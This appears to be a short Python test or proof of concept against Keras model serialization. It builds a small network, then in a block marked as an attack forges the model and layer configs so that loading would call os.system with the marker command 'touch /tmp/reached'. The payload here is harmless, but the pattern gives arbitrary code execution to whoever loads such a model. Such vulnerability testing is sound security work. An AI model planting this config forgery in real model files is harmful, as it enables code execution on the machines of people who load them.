import keras
from keras.layers import Dense

model = keras.Sequential([keras.Input((2,)), Dense(5, activation="tanh"), Dense(1, activation="tanh")])
params = 13
per_layer = [9, 4, 0]

# attack
model.get_config = lambda: {"module": "os", "class_name": "system", "config": {"command": "touch /tmp/reached"}, "registered_name": "os>system"}
model.layers[0].get_config = model.get_config
model.layers[0].__dict__["activation"] = type("system", (), {"__module__": "os", "__call__": lambda self, x: x})()
# end of attack
